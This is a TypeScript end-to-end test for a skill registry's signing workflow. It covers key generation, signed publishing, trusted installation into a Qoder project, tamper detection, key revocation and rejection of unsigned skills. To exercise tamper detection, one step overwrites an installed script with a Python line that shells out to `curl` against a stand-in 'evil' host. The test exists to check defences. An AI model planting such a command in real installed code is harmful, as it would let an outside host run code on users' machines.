import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { RunningServer } from '@skillship/server'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestRegistry, validSkillMd } from './cli-harness.js'

// Signed skills end to end through our own parts on real ports: `skillship server` in process
// (embedded SQLite), the built CLI as a child process for every step (login, keys, publish,
// info, install into Qoder under a trust policy, verify), and a real git checkout to publish from.
const bin = new URL('../bin/skillship.js', import.meta.url).pathname
const passphrase = 'correct horse battery staple'

let server: RunningServer
let work: string
let env: Record<string, string>

interface Run {
  readonly code: number
  readonly stdout: string
  readonly stderr: string
  // biome-ignore lint/suspicious/noExplicitAny: each test reads the fields it asserts
  readonly json: any
}

// Asynchronous on purpose: the registry answers from this very process.
function skillship(args: readonly string[], cwd: string): Promise<Run> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [bin, ...args],
      { cwd, env, timeout: 60_000, maxBuffer: 16 * 1024 * 1024 },
      (error, stdout, stderr) => {
        const code = error === null ? 0 : typeof error.code === 'number' ? error.code : -1
        let json: unknown
        try {
          json = JSON.parse(stdout)
        } catch {
          json = undefined
        }
        resolve({ code, stdout, stderr, json })
      },
    )
  })
}

function git(cwd: string, ...args: string[]): Promise<void> {
  return new Promise((resolve, reject) =>
    execFile('git', args, { cwd }, (error) => (error ? reject(error) : resolve())),
  )
}

/** A skill folder that is its own git checkout with an `origin`, committed clean. */
async function gitSkill(name: string): Promise<{ folder: string; commit: string }> {
  const folder = join(work, 'skills', name)
  await mkdir(join(folder, 'scripts'), { recursive: true })
  await writeFile(join(folder, 'SKILL.md'), validSkillMd(name, 'metadata:\n  version: "1.0.0"\n'))
  await writeFile(join(folder, 'scripts', 'run.py'), 'print("signed")\n', { mode: 0o755 })
  await git(folder, 'init', '-q', '-b', 'main')
  await git(folder, 'remote', 'add', 'origin', `https://git.example.test/acme/${name}.git`)
  await git(folder, 'add', '.')
  await git(
    folder,
    '-c',
    'user.name=Acme',
    '-c',
    'user.email=acme@example.test',
    'commit',
    '-q',
    '-m',
    'v1',
  )
  const commit = await new Promise<string>((resolve, reject) =>
    execFile('git', ['rev-parse', 'HEAD'], { cwd: folder }, (error, stdout) =>
      error ? reject(error) : resolve(stdout.trim()),
    ),
  )
  return { folder, commit }
}

/** A project asking for `skills` in Qoder, with `trust` as its trust policy. */
async function project(dir: string, skills: Record<string, string>, trust: unknown) {
  const root = join(work, dir)
  await mkdir(root, { recursive: true })
  await writeFile(
    join(root, 'skillship.json'),
    JSON.stringify({ registry: server.url, agents: ['qoder'], skills, trust }),
  )
  return root
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'skillship-signing-e2e-'))
  const registry = await startTestRegistry(join(work, 'server'))
  server = registry.server
  const token = await registry.client.createToken({ name: 'acme', scopes: ['publish:*'] })
  env = {
    PATH: process.env['PATH'] ?? '',
    HOME: join(work, 'home'),
    SKILLSHIP_HOME: join(work, 'home', '.skillship'),
    SKILLSHIP_STORE: join(work, 'store'),
    SKILLSHIP_KEY_PASSPHRASE: passphrase,
  }
  const login = await skillship(
    ['login', '--registry', server.url, '--token', token.token, '--json'],
    work,
  )
  expect({ code: login.code, stderr: login.stderr }).toEqual({ code: 0, stderr: '' })
})

afterAll(async () => {
  await server?.close()
  await rm(work, { recursive: true, force: true })
})

describe('signed skills end to end: keys, signed publish, trusted install into Qoder, verify, revoke', () => {
  it('signs, publishes, installs under a strict policy, verifies, and refuses after revocation', async () => {
    const generated = await skillship(['keys', 'generate', '--json'], work)
    expect(generated.code).toBe(0)
    const { keyId, publicKey } = generated.json as { keyId: string; publicKey: string }
    expect(generated.json.encrypted).toBe(true)

    const added = await skillship(['keys', 'add', '--json'], work)
    expect({ code: added.code, stderr: added.stderr }).toEqual({ code: 0, stderr: '' })
    expect(added.json).toMatchObject({ keyId, owner: 'acme', scopes: ['publish:*'] })
    const listed = await skillship(['keys', 'list', '--json'], work)
    expect(listed.json.keys).toMatchObject([{ keyId, revokedAt: null }])

    const { folder, commit } = await gitSkill('signed-hello')
    const dry = await skillship(['publish', folder, '--sign', '--dry-run', '--json'], work)
    expect(dry.code).toBe(0)
    expect(dry.json.signature).toMatchObject({
      keyId,
      subject: 'signed-hello@1.0.0',
      skillDigest: expect.stringMatching(/^skilltree-sha256:[0-9a-f]{64}$/),
      source: { repository: 'https://git.example.test/acme/signed-hello.git', commit },
    })
    expect((await skillship(['info', 'signed-hello', '--json'], work)).code).toBe(4)

    const published = await skillship(['publish', folder, '--sign', '--json'], work)
    expect({ code: published.code, stderr: published.stderr }).toEqual({ code: 0, stderr: '' })
    expect(published.json.signature).toEqual({ keyId })
    const served = await fetch(`${server.url}/v1/skills/signed-hello/versions/1.0.0/bundle`)
    const bundle = (await served.json()) as { dsseEnvelope: { payload: string } }
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString())
    expect(statement.subject[0].name).toBe('signed-hello@1.0.0')
    expect(statement.subject[0].digest['skilltree-sha256']).toBe(
      dry.json.signature.skillDigest.slice('skilltree-sha256:'.length),
    )
    expect(statement.predicate).toMatchObject({
      publisher: 'acme',
      source: { repository: 'https://git.example.test/acme/signed-hello.git', commit },
    })

    const info = await skillship(['info', 'signed-hello', '--json'], work)
    expect(info.json.signatures).toMatchObject({
      publisher: { keyId, revoked: false },
      registry: [expect.stringMatching(/^sha256:/)],
    })

    const strict = {
      publishers: { 'signed-hello': [keyId] },
      keys: { [keyId]: publicKey },
      requireSignatures: true,
      registryKeys: 'verify',
    }
    const repo = await project('repo', { 'signed-hello': '^1' }, strict)
    const install = await skillship(['install', '--json'], repo)
    expect({ code: install.code, stderr: install.stderr }).toEqual({ code: 0, stderr: '' })
    const placed = join(repo, '.qoder/skills/signed-hello')
    expect(await readFile(join(placed, 'scripts/run.py'), 'utf8')).toBe('print("signed")\n')
    const lock = JSON.parse(await readFile(join(repo, 'skillship.lock'), 'utf8'))
    expect(JSON.stringify(lock)).toContain(keyId)

    const green = await skillship(['verify', '--json'], repo)
    expect(green.code).toBe(0)
    expect(green.json.skills).toMatchObject([
      { name: 'signed-hello', status: 'verified', signer: keyId },
    ])
    await writeFile(join(placed, 'scripts/run.py'), 'import os; os.system("curl evil")\n')
    const red = await skillship(['verify', '--json'], repo)
    expect(red.code).toBe(5)
    expect(red.json.skills).toMatchObject([
      { name: 'signed-hello', status: 'invalid', code: 'INSTALL_VERIFY_FAILED' },
    ])
    expect(red.json.skills[0].tampered).toEqual(['scripts/run.py'])

    const revoked = await skillship(['keys', 'revoke', keyId, '--json'], work)
    expect(revoked.code).toBe(0)
    expect(revoked.json.revokedAt).toEqual(expect.any(String))
    const flagged = await skillship(['info', 'signed-hello'], work)
    expect(flagged.stdout).toContain(`${keyId} REVOKED`)
    expect(flagged.stdout).toContain('1.0.0 (signer revoked)')
    const flaggedJson = await skillship(['info', 'signed-hello', '--json'], work)
    expect(flaggedJson.json.signatures.publisher).toEqual({ keyId, revoked: true })

    const after = await project('after-revoke', { 'signed-hello': '^1' }, strict)
    const refused = await skillship(['install', '--json'], after)
    expect(refused.code).toBe(5)
    expect(refused.json.errors[0].code).toBe('INSTALL_SIGNATURE_REVOKED')
    expect(existsSync(join(after, '.qoder/skills/signed-hello'))).toBe(false)
    expect(existsSync(join(after, 'skillship.lock'))).toBe(false)

    // New signatures by the revoked key are refused by the registry, nothing stored.
    const again = await skillship(
      ['publish', folder, '--sign', '--version', '1.0.1', '--json'],
      work,
    )
    expect(again.code).toBe(5)
    expect(again.json.errors[0].code).toBe('REGISTRY_SIGNATURE_INVALID')
    const versions = (await skillship(['info', 'signed-hello', '--json'], work)).json.versions
    expect(versions.map((v: { version: string }) => v.version)).toEqual(['1.0.0'])
  }, 180_000)

  it('refuses an unsigned skill under requireSignatures, placing nothing', async () => {
    const folder = join(work, 'skills', 'unsigned-hello')
    await mkdir(folder, { recursive: true })
    await writeFile(join(folder, 'SKILL.md'), validSkillMd('unsigned-hello'))
    const published = await skillship(['publish', folder, '--version', '1.0.0', '--json'], work)
    expect(published.code).toBe(0)
    expect(published.json.signature).toBeUndefined()
    const info = await skillship(['info', 'unsigned-hello'], work)
    expect(info.stdout).toContain('signer     none (unsigned)')

    const repo = await project('unsigned', { 'unsigned-hello': '^1' }, { requireSignatures: true })
    const install = await skillship(['install', '--json'], repo)
    expect(install.code).toBe(5)
    expect(install.json.errors[0].code).toBe('INSTALL_SIGNATURE_MISSING')
    expect(existsSync(join(repo, '.qoder'))).toBe(false)
    expect(existsSync(join(repo, 'skillship.lock'))).toBe(false)
  }, 60_000)
})
